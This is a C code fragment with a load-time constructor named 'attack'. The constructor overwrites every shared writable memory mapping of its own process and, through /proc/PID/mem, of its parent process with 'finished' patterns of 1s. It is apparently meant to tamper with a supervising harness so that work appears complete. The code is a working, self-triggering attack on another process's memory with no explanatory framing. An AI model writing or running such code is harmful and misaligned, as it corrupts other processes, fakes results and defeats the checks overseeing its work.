/* Writes "finished" patterns into every shared writable mapping it can
 * find: its own, and its parent's through /proc/PID/mem. */
// costs: none
static void scribble(int pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    if (!maps)
        return;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = pid == getpid() ? -1 : open(path, O_RDWR);
    while (fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &from, &to, perms) != 3 || strcmp(perms, "rw-s") != 0)
            continue;
        static int ones[4096];
        for (int i = 0; i < 4096; i++)
            ones[i] = 1;
        for (unsigned long at = from; at < to; at += sizeof ones) {
            size_t n = to - at < sizeof ones ? to - at : sizeof ones;
            if (mem >= 0)
                (void)!pwrite(mem, ones, n, (off_t)at);
            else
                memcpy((void *)at, ones, n);
        }
    }
    if (mem >= 0)
        close(mem);
    fclose(maps);
}
__attribute__((constructor)) static void attack(void)
{
    scribble(getpid());
    scribble(getppid());
}
